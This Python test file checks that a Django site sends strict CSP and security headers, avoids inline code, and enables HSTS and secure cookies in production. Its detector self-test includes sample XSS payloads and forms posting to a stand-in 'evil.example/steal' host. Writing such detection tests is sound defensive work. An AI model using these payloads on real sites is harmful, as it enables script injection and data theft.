"""Headers and inline code (SECURITY.md C2): every page of the role x URL matrix, seen by an
anonymous visitor and by a superuser (who reaches every admin page sampled), sends the strict
CSP and the other security headers, and its HTML holds no inline script, event handler or
style attribute (which `script-src 'self'` / `style-src 'self'` would block in a browser).
HSTS and secure cookies follow DJANGO_SECURE: checked on the production settings."""

import json
import os
import re
import subprocess
import sys

import pytest
from django.conf import settings as django_settings

from tests.test_settings import BASE_DIR, PRODUCTION_ENV, UNSET

from .world import build_world

pytestmark = pytest.mark.django_db

INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>", re.IGNORECASE)
EVENT_HANDLER = re.compile(r"<[^>]+\son[a-z]+\s*=", re.IGNORECASE)
STYLE_ATTRIBUTE = re.compile(r"<[^>]+\sstyle\s*=", re.IGNORECASE)
STYLE_ELEMENT = re.compile(r"<style[\s>]", re.IGNORECASE)
# A form whose action leaves the site (absolute or scheme-relative URL).
FORM_OFF_SITE = re.compile(r"""<form[^>]*\saction\s*=\s*["']?\s*(?:[a-z][a-z0-9+.-]*:|//)""", re.I)
JAVASCRIPT_URL = re.compile(r"""(?:href|src|action)\s*=\s*["']?\s*javascript:""", re.IGNORECASE)

# allauth's pages with a form (a member sees the signed-in ones, a visitor the others).
ALLAUTH_PAGES = [
    "/accounts/login/",
    "/accounts/signup/",
    "/accounts/password/reset/",
    "/accounts/email/",
    "/accounts/password/change/",
    "/accounts/logout/",
    "/accounts/2fa/",
    "/accounts/2fa/totp/activate/",
    "/accounts/sessions/",
    "/accounts/reauthenticate/",
]

EXTRA_ADMIN_PAGES = [
    "/admin/members/user/",
    "/admin/members/profile/add/",
    "/admin/chapters/jornada/add/",
    "/admin/pncs/opportunity/add/",
    "/admin/programs/program/add/",
    "/admin/auth/group/",
    "/admin/password_change/",
]


def _check_headers(path, response):
    csp = response["Content-Security-Policy"]
    directives = dict(
        [*part.split(" ", 1), ""][:2] for part in (p.strip() for p in csp.split(";")) if part
    )
    assert directives["default-src"] == "'self'", path
    assert directives["script-src"] == "'self'", path
    assert directives["style-src"] == "'self'", path
    assert directives["object-src"] == "'none'", path
    assert directives["frame-ancestors"] == "'none'", path
    # Forms post to the site only (issue 17); the social providers' sign-in pages are where
    # the social login's POST is redirected.
    assert directives["form-action"].split() == [
        "'self'",
        "https://accounts.google.com",
        "https://www.linkedin.com",
    ], path
    assert "unsafe-inline" not in csp and "unsafe-eval" not in csp, path
    assert response["X-Content-Type-Options"] == "nosniff", path
    assert response["Referrer-Policy"] == "same-origin", path
    assert response["X-Frame-Options"] == "DENY", path


def _check_html(path, response):
    if "text/html" not in response.get("Content-Type", ""):
        return
    html = response.content.decode()
    for pattern, what in (
        (INLINE_SCRIPT, "inline <script>"),
        (EVENT_HANDLER, "inline event handler"),
        (STYLE_ATTRIBUTE, "style= attribute"),
        (STYLE_ELEMENT, "<style> element"),
        (JAVASCRIPT_URL, "javascript: URL"),
        (FORM_OFF_SITE, "form posting off-site"),
    ):
        found = pattern.search(html)
        assert found is None, (
            f"{path}: {what}: {html[max(0, found.start() - 80) : found.end() + 80]}"
        )


@pytest.mark.parametrize("role", ["anonymous", "member", "superuser"])
def test_every_page_sends_the_security_headers_and_no_inline_code(client, role):
    world = build_world()
    if world.user(role) is not None:
        client.force_login(world.user(role))
    paths = [*world.urls.values(), *ALLAUTH_PAGES, "/en/"]
    if role == "superuser":
        paths += EXTRA_ADMIN_PAGES
    for path in paths:
        response = client.get(path)
        assert response.status_code < 500, path
        _check_headers(path, response)
        if response.status_code == 200:
            _check_html(path, response)


def test_error_pages_send_the_headers_too(client):
    response = client.get("/no-such-page/")
    assert response.status_code == 404
    _check_headers("/no-such-page/", response)
    _check_html("/no-such-page/", response)


def test_production_settings_turn_on_hsts_ssl_redirect_and_secure_cookies():
    code = (
        "import django, json; django.setup(); from django.conf import settings as s; "
        "print(json.dumps([s.SECURE_HSTS_SECONDS, s.SECURE_HSTS_INCLUDE_SUBDOMAINS, "
        "s.SECURE_SSL_REDIRECT, s.SESSION_COOKIE_SECURE, s.CSRF_COOKIE_SECURE, "
        "s.SESSION_COOKIE_HTTPONLY, s.DEBUG]))"
    )
    clean = {k: v for k, v in os.environ.items() if k not in UNSET}
    result = subprocess.run(
        [sys.executable, "-c", code],
        cwd=BASE_DIR,
        env={**clean, **PRODUCTION_ENV, "DJANGO_SETTINGS_MODULE": "talentnet.settings"},
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    hsts, subdomains, redirect, session_secure, csrf_secure, httponly, debug = json.loads(
        result.stdout.strip().splitlines()[-1]
    )
    assert hsts >= 31536000 and subdomains and redirect
    assert session_secure and csrf_secure and httponly
    assert debug is False


def test_the_hsts_header_is_sent_over_https(client, settings):
    settings.SECURE_HSTS_SECONDS = 31536000
    settings.SECURE_HSTS_INCLUDE_SUBDOMAINS = True
    response = client.get("/", secure=True)
    assert response["Strict-Transport-Security"].startswith("max-age=31536000")


def test_request_size_limits_stay_at_djangos_defaults_or_tighter():
    """SECURITY.md C6."""
    assert django_settings.DATA_UPLOAD_MAX_MEMORY_SIZE <= 2_621_440
    assert django_settings.DATA_UPLOAD_MAX_NUMBER_FIELDS <= 1000
    assert django_settings.DATA_UPLOAD_MAX_NUMBER_FILES <= 100
    assert django_settings.FILE_UPLOAD_MAX_MEMORY_SIZE <= 2_621_440


def test_too_many_fields_are_refused_with_400(client):
    response = client.post("/accounts/login/", {f"f{n}": "x" for n in range(1200)})
    assert response.status_code == 400


def test_the_inline_code_detector_finds_what_it_looks_for():
    from django.http import HttpResponse

    for html in (
        "<script>alert(1)</script>",
        '<a href="#" onclick="x()">',
        '<div style="color:red">',
        "<style>p{}</style>",
        '<a href="javascript:alert(1)">',
        '<form method="post" action="https://evil.example/steal">',
        "<form action='//evil.example/steal' method=post>",
    ):
        response = HttpResponse(html, content_type="text/html")
        with pytest.raises(AssertionError):
            _check_html("/sample", response)
    _check_html("/ok", HttpResponse('<script src="/static/x.js"></script>'))
    _check_html("/ok", HttpResponse('<form method="post" action="/accounts/login/?next=/me/">'))


def test_the_superuser_really_renders_the_admin_pages(client):
    world = build_world()
    client.force_login(world.user("superuser"))
    for path in [world.urls["admin:members_profile_change"], *EXTRA_ADMIN_PAGES]:
        response = client.get(path)
        assert response.status_code == 200, path
        assert "<form" in response.content.decode() or "result_list" in response.content.decode()
